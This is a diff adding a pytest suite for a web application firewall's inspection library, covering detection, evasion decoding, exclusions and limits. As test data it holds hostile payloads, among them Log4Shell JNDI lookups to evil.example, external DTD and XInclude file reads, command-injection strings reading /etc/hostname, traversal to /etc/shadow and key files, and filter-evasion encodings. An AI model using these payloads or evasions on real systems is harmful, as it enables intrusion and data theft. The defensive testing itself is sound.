@@ -1,0 +1,589 @@
+"""The WAF's inspection library (controlplane/waf/inspect.py, normalize.py, rules.py): what it
+finds, where it says it found it, what it leaves alone, and what it refuses to spend.
+
+No Envoy here: tests/test_waf.py runs the service behind a real gateway. Detection and false
+positive *rates* are measured by bench/waf_corpus_bench.py; the corpus test below only holds
+the line the issue sets (95 % per family, 1 % false positives)."""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import json
+import zlib
+from urllib.parse import quote
+
+import pytest
+
+from controlplane.waf.inspect import FAMILIES, Exclusions, Finding, Inspector, Request
+from controlplane.waf.rules import Limits, RuleSet
+
+BROWSER = (
+    ("host", "shop.example.com"),
+    ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"),
+    ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
+    ("accept-language", "en-US,en;q=0.5"),
+)
+
+
+@pytest.fixture(scope="module")
+def inspector() -> Inspector:
+    return Inspector(RuleSet.default(), cache_size=0)
+
+
+def get(path: str, *headers: tuple[str, str]) -> Request:
+    return Request("GET", path, BROWSER + headers)
+
+
+def post(body: bytes | str, content_type: str | None, *headers: tuple[str, str]) -> Request:
+    data = body.encode() if isinstance(body, str) else body
+    extra = ((("content-type", content_type),) if content_type else ()) + headers
+    return Request("POST", "/api/items", BROWSER + extra, data)
+
+
+def query(value: str, name: str = "q") -> Request:
+    """``value`` as the client sends it (already encoded where an evasion encodes it)."""
+    return get(f"/search?page=1&{name}={value}")
+
+
+def families(findings: list[Finding]) -> set[str]:
+    return {f.family for f in findings}
+
+
+def at(findings: list[Finding], family: str) -> set[str]:
+    return {f.location for f in findings if f.family == family}
+
+
+# --- families -------------------------------------------------------------------------------
+
+ATTACKS = {
+    "sqli": "1%27%20OR%20%271%27%3D%271",
+    "xss": "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
+    "cmdi": "127.0.0.1%3B%20cat%20%2Fetc%2Fhostname",
+    "traversal": "..%2F..%2F..%2Fsecrets%2Fkey.pem",
+    "exploit": "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+}
+
+
+@pytest.mark.parametrize("family", sorted(ATTACKS))
+def test_each_family_is_found_in_a_query_parameter(inspector: Inspector, family: str) -> None:
+    findings = inspector.inspect(query(ATTACKS[family]))
+    assert family in families(findings)
+    assert "query:q" in at(findings, family)
+
+
+def test_xxe_any_doctype_in_an_xml_body(inspector: Inspector) -> None:
+    # an internal subset with no entity at all is refused too: any DTD is XXE
+    document = '<?xml version="1.0"?><!DOCTYPE note [<!ELEMENT note (#PCDATA)>]><note>hi</note>'
+    findings = inspector.inspect(post(document, "application/xml"))
+    assert next((f.rule, f.location) for f in findings if f.family == "xxe") == ("xxe.dtd", "body:xml")
+
+
+def test_xxe_xinclude_in_an_xml_body(inspector: Inspector) -> None:
+    document = '<r xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="file:///etc/hostname"/></r>'
+    assert "xxe.xinclude" in {f.rule for f in inspector.inspect(post(document, "application/xml"))}
+
+
+def test_xxe_sniffed_whatever_the_declared_type(inspector: Inspector) -> None:
+    document = '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>'
+    for content_type in ("application/json", "text/plain", None):
+        assert "xxe.dtd" in {f.rule for f in inspector.inspect(post(document, content_type))}, content_type
+
+
+def test_xxe_in_utf16_is_still_xxe(inspector: Inspector) -> None:
+    document = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///x">]><r>&e;</r>'
+    assert "xxe" in families(inspector.inspect(post(document.encode("utf-16"), "application/xml")))
+
+
+def test_shellshock_in_a_header(inspector: Inspector) -> None:
+    findings = inspector.inspect(get("/", ("referer", "() { :; }; /bin/sleep 5")))
+    assert ("exploit.shellshock", "header:referer") in {(f.rule, f.location) for f in findings}
+
+
+def test_spring4shell_in_a_parameter_name(inspector: Inspector) -> None:
+    findings = inspector.inspect(get("/?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"))
+    assert any(f.rule == "exploit.spring4shell" and f.location.endswith("#name") for f in findings)
+
+
+def test_nosql_operator_in_a_json_key(inspector: Inspector) -> None:
+    findings = inspector.inspect(post('{"user": "admin", "password": {"$ne": null}}', "application/json"))
+    assert ("sqli.nosql-operator", "body:/password/$ne#key") in {(f.rule, f.location) for f in findings}
+
+
+# --- evasions: each needs its decoding or view to be found ----------------------------------
+
+
+def fullwidth(text: str) -> str:
+    """ASCII punctuation and letters as their fullwidth forms (NFKC folds them back)."""
+    return "".join(chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch for ch in text)
+
+
+EVASIONS = {
+    # evasion: (family, what the client sends in ?q=)
+    "double-url": ("sqli", quote(quote("' OR 'a'='a", safe=""), safe="")),
+    "triple-url": ("xss", quote(quote(quote("<script>alert(1)</script>", safe=""), safe=""), safe="")),
+    "percent-u": ("xss", "%u003Csvg%u0020onload%u003Dalert(1)%u003E"),
+    "overlong-utf8": ("traversal", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afshadow"),
+    "html-entities": ("xss", quote("&lt;iframe src&#61;//evil.example&gt;", safe="")),
+    "html-entities-no-semicolon": ("xss", quote("&#60iframe src=//evil.example&#x3E", safe="")),
+    "js-unicode-escapes": ("xss", quote("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", safe="")),
+    "js-hex-escapes": ("cmdi", quote("\\x3b cat \\x2fetc\\x2fhostname", safe="")),
+    "nfkc-fullwidth": ("xss", quote(fullwidth("<iframe src=//evil.example>"), safe="")),
+    "lookalike-quotes": ("sqli", quote("x\u2019 OR \u20191\u2019=\u20191", safe="")),
+    "case": ("xss", quote("JaVaScRiPt:AlErT(1)", safe="")),
+    "shell-quoting": ("cmdi", quote("; c'a't /e\"t\"c/host\\name", safe="")),
+    "shell-brace": ("cmdi", quote(";{cat,/etc/hostname}", safe="")),
+    "shell-newline": ("cmdi", quote("x\nwhoami", safe="")),
+    "log4j-nested": ("exploit", quote("${${lower:j}${::-n}${env:NONE:-d}i:ldap://evil.example/a}", safe="")),
+    "log4j-nested-deeper": ("exploit", quote("${${lower:${upper:j}}ndi:ldap://evil.example/a}", safe="")),
+    "nul-inside": ("traversal", "..%00/..%00/etc/hostname"),
+    "zero-width-inside": ("sqli", quote("1' UN\u200bION SEL\u200bECT password FROM users--", safe="")),
+}
+
+
+@pytest.mark.parametrize("evasion", sorted(EVASIONS))
+def test_each_evasion_is_undone(inspector: Inspector, evasion: str) -> None:
+    family, sent = EVASIONS[evasion]
+    assert family in families(inspector.inspect(query(sent)))
+
+
+VIEWS = {
+    # what the rules see once the SQL or shell view has undone a trick (libinjection reads
+    # comments itself, so these name the rule that needs the view)
+    "sql-comments": ("sqli.union-select", "-1/**/UnIoN/**/SeLeCt/**/1,2--"),
+    "mysql-versioned-comments": ("sqli.union-select", "-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2"),
+    "sql-line-comment": ("sqli.union-select", "-1 UNION#x\nSELECT 1,2"),
+    "sql-whitespace": ("sqli.union-select", "1\x0bUNION\x0cSELECT\xa0password\tFROM\nusers"),
+    "shell-ifs": ("cmdi.separator-command", ";cat${IFS}/etc/hostname"),
+    "shell-unset-variable": ("cmdi.separator-command", ";c$u'a't /etc/hostname"),
+    "shell-caret": ("cmdi.bare-command", "& w^h^o^a^m^i"),
+}
+
+
+@pytest.mark.parametrize("trick", sorted(VIEWS))
+def test_each_view_undoes_its_tricks(inspector: Inspector, trick: str) -> None:
+    rule, value = VIEWS[trick]
+    assert rule in {f.rule for f in inspector.inspect(query(quote(value, safe="")))}
+
+
+def test_log4j_lookups_are_resolved(inspector: Inspector) -> None:
+    """The resolver, not a pattern: a lookup whose default spells jndi is found however it is
+    nested."""
+    sent = quote("${${env:NONE:-j}${env:NONE:-n}d${date:'i'}:ldap://evil.example/a}", safe="")
+    assert "exploit.log4shell" in {f.rule for f in inspector.inspect(query(sent))}
+    assert "exploit.log4shell" not in {f.rule for f in inspector.inspect(query(quote("${env:HOME}/logs", safe="")))}
+
+
+def test_injection_after_prose_with_apostrophes(inspector: Inspector) -> None:
+    """libinjection reads a value from its start; an injection behind text that has its own
+    apostrophes is found by reading again from each quote."""
+    sent = quote("It's my dad's gift. x' OR 1=1 LIMIT 1 OFFSET 1 -- ", safe="")
+    assert "sqli.libinjection" in {f.rule for f in inspector.inspect(query(sent))}
+
+
+def test_repeated_parameters_are_joined(inspector: Inspector) -> None:
+    """ASP.NET hands the application q=a&q=b as "a,b": an attack split across the two is
+    found in the joined value."""
+    findings = inspector.inspect(get("/search?q=%3Cimg%20src%3Dx&q=%20onerror%3Dalert(1)%3E"))
+    assert "query:q[*]" in at(findings, "xss")
+
+
+def test_attack_in_the_second_of_repeated_parameters(inspector: Inspector) -> None:
+    findings = inspector.inspect(get("/search?q=shoes&q=%27%20OR%201%3D1--"))
+    assert "query:q[1]" in at(findings, "sqli")
+
+
+def test_path_whole_and_by_segment(inspector: Inspector) -> None:
+    findings = inspector.inspect(get("/api/users/1%27%20OR%20%271%27%3D%271/orders"))
+    assert at(findings, "sqli") == {"path"}
+    # traversal spans segments: the whole decoded path
+    findings = inspector.inspect(get("/static/..%2f..%2f..%2fetc%2fpasswd"))
+    assert "path" in at(findings, "traversal")
+    # a rule anchored at a value's start sees each segment as a value
+    findings = inspector.inspect(get("/fetch/file:%2F%2F%2Fsrv%2Fapp%2Fconfig.yml/raw"))
+    assert "traversal.file-url" in {f.rule for f in findings}
+
+
+# --- where: headers, cookies, credentials ------------------------------------------------------
+
+
+def test_cookies_one_by_one(inspector: Inspector) -> None:
+    findings = inspector.inspect(get("/", ("cookie", "theme=dark; pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E; lang=en")))
+    assert at(findings, "xss") == {"cookie:pref"}
+
+
+def test_non_standard_and_forwarded_headers(inspector: Inspector) -> None:
+    findings = inspector.inspect(get("/", ("x-forwarded-for", "1.2.3.4' OR '1'='1"), ("x-tenant", "../../etc")))
+    assert "header:x-forwarded-for" in at(findings, "sqli")
+    assert "header:x-tenant" in at(findings, "traversal")
+
+
+def test_strict_grammar_headers_still_inspected_when_off_grammar(inspector: Inspector) -> None:
+    """Accept is skipped when it is a list of media ranges; a path in it is not one
+    (Rails' CVE-2019-5418 read files through Accept)."""
+    assert inspector.inspect(get("/")) == []
+    findings = inspector.inspect(Request("GET", "/", (("accept", "../passwd"),)))
+    assert "header:accept" in at(findings, "traversal")
+
+
+def test_bearer_token_not_inspected_but_odd_authorization_is(inspector: Inspector) -> None:
+    token = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"
+    assert inspector.inspect(get("/", ("authorization", f"Bearer {token}"))) == []
+    findings = inspector.inspect(get("/", ("authorization", "Bearer ' OR '1'='1")))
+    assert "header:authorization" in at(findings, "sqli")
+
+
+def test_basic_auth_user_name_inspected_password_never(inspector: Inspector) -> None:
+    password_only = base64.b64encode(b"jane:p@ss' OR '1'='1").decode()
+    assert inspector.inspect(get("/", ("authorization", f"Basic {password_only}"))) == []
+    user = base64.b64encode(b"admin' OR '1'='1:x").decode()
+    findings = inspector.inspect(get("/", ("authorization", f"Basic {user}")))
+    assert at(findings, "sqli") == {"header:authorization:username"}
+    assert all(f.snippet != "x" for f in findings)
+
+
+# --- bodies -------------------------------------------------------------------------------------
+
+
+def test_json_every_string_with_its_pointer_and_keys(inspector: Inspector) -> None:
+    body = {"items": [{"name": "ok"}, {"name": "<svg onload=alert(1)>"}], "a/b": {"<script>": 1}}
+    findings = inspector.inspect(post(json.dumps(body), "application/json"))
+    assert at(findings, "xss") == {"body:/items/1/name", "body:/a~1b/<script>#key"}
+
+
+def test_json_duplicate_keys_are_all_inspected(inspector: Inspector) -> None:
+    findings = inspector.inspect(post('{"q": "<script>alert(1)</script>", "q": "fine"}', "application/json"))
+    assert "body:/q" in at(findings, "xss")
+
+
+def test_json_vendor_type(inspector: Inspector) -> None:
+    body = json.dumps({"q": "' OR '1'='1"})
+    assert "sqli" in families(inspector.inspect(post(body, "application/vnd.api+json")))
+
+
+def test_form_fields(inspector: Inspector) -> None:
+    findings = inspector.inspect(
+        post("name=Jane&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "application/x-www-form-urlencoded")
+    )
+    assert at(findings, "xss") == {"body:form:comment"}
+
+
+BOUNDARY = "----b0undary"
+MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"
+
+
+def multipart(*parts: tuple[str, str]) -> bytes:
+    """Each part: (its headers after Content-Disposition's form-data, its content)."""
+    out = ""
+    for disposition, content in parts:
+        out += f"--{BOUNDARY}\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{content}\r\n"
+    return (out + f"--{BOUNDARY}--\r\n").encode()
+
+
+def test_multipart_text_part_name_and_filename(inspector: Inspector) -> None:
+    body = multipart(
+        ('name="title"', "holiday"),
+        ('name="comment"', "x'; DROP TABLE users; --"),
+        ('name="photo"; filename="../../../etc/cron.d/x"\r\nContent-Type: image/png', "\x89PNG"),
+    )
+    findings = inspector.inspect(post(body, MULTIPART))
+    assert "body:part:comment" in at(findings, "sqli")
+    assert "body:part:photo#filename" in at(findings, "traversal")
+
+
+def test_multipart_json_part_and_base64_part(inspector: Inspector) -> None:
+    encoded = base64.b64encode(b"<script>alert(1)</script>").decode()
+    body = multipart(
+        ('name="meta"\r\nContent-Type: application/json', '{"title": "<svg onload=alert(1)>"}'),
+        ('name="note"\r\nContent-Transfer-Encoding: base64', encoded),
+    )
+    findings = inspector.inspect(post(body, MULTIPART))
+    assert at(findings, "xss") >= {"body:part:meta:/title", "body:part:note"}
+
+
+def test_multipart_binary_part_gives_no_false_positive(inspector: Inspector) -> None:
+    noise = bytes(range(256)).decode("latin-1") * 8
+    body = multipart(('name="photo"; filename="a.png"\r\nContent-Type: image/png', noise))
+    assert inspector.inspect(post(body.replace(noise.encode(), noise.encode("latin-1")), MULTIPART)) == []
+
+
+def test_xml_element_text_and_attributes(inspector: Inspector) -> None:
+    document = "<order id=\"1' OR '1'='1\"><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></order>"
+    findings = inspector.inspect(post(document, "application/xml"))
+    assert "body:xml:/order/note" in at(findings, "xss")
+    assert "body:xml:/order/@id" in at(findings, "sqli")
+
+
+def test_plain_text_body(inspector: Inspector) -> None:
+    assert "cmdi" in families(inspector.inspect(post("hello\n; cat /etc/hostname", "text/plain")))
+
+
+def test_gzip_request_body_is_inflated(inspector: Inspector) -> None:
+    body = gzip.compress(json.dumps({"q": "<script>alert(1)</script>"}).encode())
+    findings = inspector.inspect(post(body, "application/json", ("content-encoding", "gzip")))
+    assert "body:/q" in at(findings, "xss")
+
+
+def test_unknown_content_encoding_is_refused(inspector: Inspector) -> None:
+    findings = inspector.inspect(post(b"\x00\x01", "application/json", ("content-encoding", "br")))
+    assert {f.rule for f in findings} == {"protocol.content-encoding"}
+
+
+def test_body_not_of_its_declared_type_is_protocol_and_still_inspected(inspector: Inspector) -> None:
+    findings = inspector.inspect(post("{'q': '<script>alert(1)</script>'", "application/json"))
+    assert "protocol.body-unparsable" in {f.rule for f in findings}
+    assert "xss" in families(findings)
+    broken = multipart(('name="a"', "x")).replace(f"--{BOUNDARY}--".encode(), b"")
+    assert "protocol.body-unparsable" in {f.rule for f in inspector.inspect(post(broken, MULTIPART))}
+    assert "protocol.body-unparsable" in {f.rule for f in inspector.inspect(post("<a><b></a>", "application/xml"))}
+
+
+# --- benign traffic that looks dangerous ---------------------------------------------------------
+
+BENIGN = [
+    get("/search?q=O%27Brien&category=names"),
+    get("/search?q=select+union+drop&sort=price"),
+    get("/search?q=how+to+drop+a+table+in+sql"),
+    get("/files/report.final.v2.pdf"),
+    get("/api/items?range=1..10&tag=c%2B%2B"),
+    get("/wiki/Rock_%27n%27_roll", ("cookie", "_ga=GA1.2.123.456; cart=%7B%22items%22%3A%5B42%5D%7D")),
+    post(
+        json.dumps({"name": "Seán O'Sullivan", "note": "Please drop it at the back door; thanks!"}), "application/json"
+    ),
+    post(json.dumps({"text": "It's 100% cotton & 'pre-shrunk'. 5' 11\" tall."}), "application/json"),
+    # libinjection fingerprints this one (words only: nTnkn); words alone are no injection
+    post(json.dumps({"note": "I like to drop tables from the list"}), "application/json"),
+    post("name=D%27Angelo&msg=I%27d+like+to+select+a+size%3B+thanks", "application/x-www-form-urlencoded"),
+    post('<?xml version="1.0"?><order><customer>O\'Brien &amp; Sons</customer></order>', "application/xml"),
+]
+
+
+@pytest.mark.parametrize("index", range(len(BENIGN)))
+def test_benign_requests_pass(inspector: Inspector, index: int) -> None:
+    assert inspector.inspect(BENIGN[index]) == []
+
+
+# --- exclusions and safe locations -----------------------------------------------------------
+
+
+RICH = post(
+    json.dumps({"title": "x", "content": "<p>Hi <b>there</b><iframe src=//a.example></iframe></p>"}), "application/json"
+)
+
+
+def test_location_family_exclusion_skips_one_family_at_one_place(inspector: Inspector) -> None:
+    assert at(inspector.inspect(RICH), "xss") == {"body:/content"}
+    excluded = Exclusions(location_families=(("body:/content", "xss"),))
+    assert inspector.inspect(RICH, excluded) == []
+    # the same field still gets the other families
+    sqli = post(json.dumps({"content": "<p>x</p>' OR '1'='1"}), "application/json")
+    assert "sqli" in families(inspector.inspect(sqli, excluded))
+
+
+def test_location_exclusion_covers_what_is_below_it_and_wildcards(inspector: Inspector) -> None:
+    body = json.dumps({"items": [{"html": "<script>alert(1)</script>"}, {"html": "<svg onload=alert(1)>"}]})
+    request = post(body, "application/json")
+    assert len(at(inspector.inspect(request), "xss")) == 2
+    assert inspector.inspect(request, Exclusions(locations=("body:/items",))) == []
+    assert inspector.inspect(request, Exclusions(locations=("body:/items/*/html",))) == []
+    assert len(at(inspector.inspect(request, Exclusions(locations=("body:/item",))), "xss")) == 2
+
+
+def test_excluded_location_keeps_protocol_findings(inspector: Inspector) -> None:
+    request = post(json.dumps({"content": "a\u0000b"}), "application/json")
+    excluded = Exclusions(locations=("body:/content",))
+    assert {f.rule for f in inspector.inspect(request, excluded)} == {"protocol.nul-byte"}
+
+
+def test_family_and_rule_exclusions(inspector: Inspector) -> None:
+    request = query(quote("<script>alert(1)</script>' OR '1'='1", safe=""))
+    assert families(inspector.inspect(request)) >= {"xss", "sqli"}
+    assert "xss" not in families(inspector.inspect(request, Exclusions(families=("xss",))))
+    rules = {f.rule for f in inspector.inspect(request, Exclusions(rules=("xss.script-tag",)))}
+    assert "xss.script-tag" not in rules and "xss.libinjection" in rules
+
+
+def test_safe_locations_are_not_inspected(inspector: Inspector) -> None:
+    request = query("%27%20OR%201%3D1--", name="sort")
+    assert "sqli" in families(inspector.inspect(request))
+    assert inspector.inspect(request, safe_locations=frozenset({"query:sort"})) == []
+
+
+# --- bounds: past a limit is a finding, never a pass ------------------------------------------
+
+
+def limited(**limits: int) -> Inspector:
+    data = RuleSet.default().to_data()
+    data["limits"] = limits
+    return Inspector(RuleSet.from_data(data), cache_size=0)
+
+
+def rules_of(findings: list[Finding]) -> set[str]:
+    return {f.rule for f in findings}
+
+
+def test_value_longer_than_its_limit(inspector: Inspector) -> None:
+    assert rules_of(limited(max_value_chars=100).inspect(query("a" * 101))) == {"protocol.limits"}
+    assert limited(max_value_chars=100).inspect(query("a" * 100)) == []
+
+
+def test_body_larger_than_its_limit() -> None:
+    findings = limited(max_body_bytes=1000).inspect(post(json.dumps({"a": "b" * 1000}), "application/json"))
+    assert [(f.rule, f.location) for f in findings] == [("protocol.limits", "body")]
+
+
+def test_decompression_bomb_stops_at_the_body_limit() -> None:
+    bomb = zlib.compress(b"a" * 100_000)
+    findings = limited(max_body_bytes=10_000).inspect(post(bomb, "text/plain", ("content-encoding", "deflate")))
+    assert rules_of(findings) == {"protocol.limits"}
+
+
+def test_json_nesting_deeper_than_its_limit() -> None:
+    deep = "[" * 40 + '"x"' + "]" * 40
+    assert rules_of(limited(max_depth=32).inspect(post(deep, "application/json"))) == {"protocol.limits"}
+    assert limited(max_depth=41).inspect(post(deep, "application/json")) == []
+
+
+def test_json_nesting_beyond_the_parser(inspector: Inspector) -> None:
+    deep = "[" * 100_000 + "]" * 100_000
+    assert rules_of(inspector.inspect(post(deep, "application/json"))) == {"protocol.limits"}
+
+
+def test_xml_nesting_deeper_than_its_limit() -> None:
+    deep = "<a>" * 40 + "x" + "</a>" * 40
+    assert rules_of(limited(max_depth=32).inspect(post(deep, "application/xml"))) == {"protocol.limits"}
+
+
+def test_encoding_layers_past_the_decode_limit() -> None:
+    value = "<script>"
+    for _ in range(8):
+        value = quote(value, safe="")
+    findings = limited(max_decode_passes=6).inspect(query(value))
+    assert "protocol.limits" in rules_of(findings)
+    assert "xss" not in families(limited(max_decode_passes=6).inspect(query(quote(quote("x", safe=""), safe=""))))
+
+
+def test_too_many_values() -> None:
+    body = json.dumps([str(i) for i in range(100)])
+    findings = limited(max_values=50).inspect(post(body, "application/json"))
+    assert [(f.rule, f.location) for f in findings] == [("protocol.limits", "request")]
+
+
+def test_too_many_parts() -> None:
+    body = multipart(*[(f'name="p{i}"', "x") for i in range(20)])
+    assert rules_of(limited(max_parts=10).inspect(post(body, MULTIPART))) == {"protocol.limits"}
+
+
+def test_findings_stop_at_their_limit() -> None:
+    body = json.dumps({f"k{i}": "<script>alert(1)</script>" for i in range(50)})
+    assert len(limited(max_findings=5).inspect(post(body, "application/json"))) == 5
+
+
+def test_overlong_utf8_and_nul_are_protocol_findings(inspector: Inspector) -> None:
+    assert "protocol.overlong-utf8" in rules_of(inspector.inspect(query("%c0%ae%c0%ae")))
+    assert "protocol.nul-byte" in rules_of(inspector.inspect(query("report.pdf%00.png")))
+
+
+# --- findings -------------------------------------------------------------------------------------
+
+
+def test_snippet_is_short_escaped_and_decoded(inspector: Inspector) -> None:
+    value = "A" * 300 + "\r\n<script>alert(1)</script>" + "B" * 300
+    findings = inspector.inspect(post(json.dumps({"c": value}), "application/json"))
+    script = next(f for f in findings if f.rule == "xss.script-tag")
+    assert "<script>" in script.snippet
+    assert "\r" not in script.snippet and "\\r\\n" in script.snippet
+    assert len(script.snippet) <= 50 and script.snippet.startswith("…") and script.snippet.endswith("…")
+
+
+def test_families_are_the_documented_ones() -> None:
+    assert FAMILIES == ("sqli", "xss", "cmdi", "traversal", "xxe", "exploit", "protocol")
+    assert {r.family for r in RuleSet.default().rules} == set(FAMILIES)
+
+
+def test_cache_gives_the_same_findings() -> None:
+    cached = Inspector(RuleSet.default())
+    request = query(ATTACKS["sqli"])
+    first = cached.inspect(request)
+    assert first and cached.inspect(request) == first
+    # a cached value still honours the exclusions of the request at hand
+    assert cached.inspect(request, Exclusions(families=("sqli",))) == []
+    # and what a value is depends on where it is: a name rule does not apply to a value
+    assert cached.inspect(get("/login?q=user[$ne]")) == []
+    assert {f.rule for f in cached.inspect(get("/login?user[$ne]=x"))} == {"sqli.nosql-operator"}
+
+
+# --- rules as data ---------------------------------------------------------------------------------
+
+
+def test_default_rules_are_versioned() -> None:
+    rules = RuleSet.default()
+    assert rules.version and len(rules.ids()) == len(set(rules.ids()))
+
+
+def test_a_new_signature_is_a_data_change() -> None:
+    request = get("/?q=%24%7Bnextbig%3Apwn%7D")
+    assert Inspector(RuleSet.default()).inspect(request) == []
+    extra = {"id": "exploit.next-big-thing", "family": "exploit", "pattern": r"\$\{nextbig:"}
+    rules = RuleSet.default().with_changes(extra=[extra])
+    findings = Inspector(rules).inspect(request)
+    assert [(f.rule, f.location) for f in findings] == [("exploit.next-big-thing", "query:q")]
+    assert rules.version.endswith("+1 extra -0 disabled")
+
+
+def test_disabled_rules_no_longer_report() -> None:
+    request = query(ATTACKS["xss"])
+    rules = RuleSet.default().without("xss.libinjection", "xss.event-handler", "xss.js-sink")
+    assert "xss" not in families(Inspector(rules).inspect(request))
+    with pytest.raises(ValueError, match=r"'xss\.nope': no such rule"):
+        RuleSet.default().without("xss.nope")
+
+
+def test_round_trip_through_data() -> None:
+    rules = RuleSet.default()
+    assert RuleSet.from_data(rules.to_data()) == rules
+
+
+def test_bad_rule_file_reports_every_problem_naming_the_rule() -> None:
+    data = {
+        "version": "t",
+        "limits": {"max_depth": 0},
+        "rules": [
+            {"id": "a.lookahead", "family": "xss", "pattern": "(?=x)"},
+            {"id": "a.family", "family": "csrf", "pattern": "x"},
+            {"id": "a.both", "family": "xss", "pattern": "x", "detector": "libinjection-xss"},
+            {"id": "a.lookahead", "family": "xss", "pattern": "y"},
+        ],
+    }
+    with pytest.raises(ValueError) as raised:
+        RuleSet.from_data(data)
+    message = str(raised.value)
+    assert "limits.max_depth: must be a positive integer" in message
+    assert "rules[0] (id 'a.lookahead'): 'pattern' is not a valid RE2 expression" in message
+    assert "rules[1] (id 'a.family'): 'family' must be one of" in message
+    assert "rules[2] (id 'a.both'): exactly one of 'pattern' and 'detector'" in message
+    assert "rule id 'a.lookahead' is used twice" not in message  # the first one was invalid
+    assert message.startswith("4 problems:")
+
+
+def test_limits_have_their_documented_defaults() -> None:
+    assert RuleSet.default().limits == Limits()
+
+
+# --- the corpus holds the issue's line --------------------------------------------------------------
+
+
+def test_corpus_detection_and_false_positive_rates() -> None:
+    from tests.waf_corpus import corpus
+
+    inspector = Inspector(RuleSet.default())
+    caught: dict[str, list[int]] = {}
+    for case in corpus.attacks()[::3]:
+        row = caught.setdefault(case.family, [0, 0])
+        row[0] += 1
+        row[1] += case.family in families(inspector.inspect(case.request))
+    for family, (total, hits) in caught.items():
+        assert hits / total >= 0.95, f"{family}: {hits}/{total}"
+    benign = corpus.benign(real_specs=False)
+    flagged = [c for c in benign if inspector.inspect(c.request, c.exclusions)]
+    assert len(flagged) / len(benign) <= 0.01, [c.payload for c in flagged]
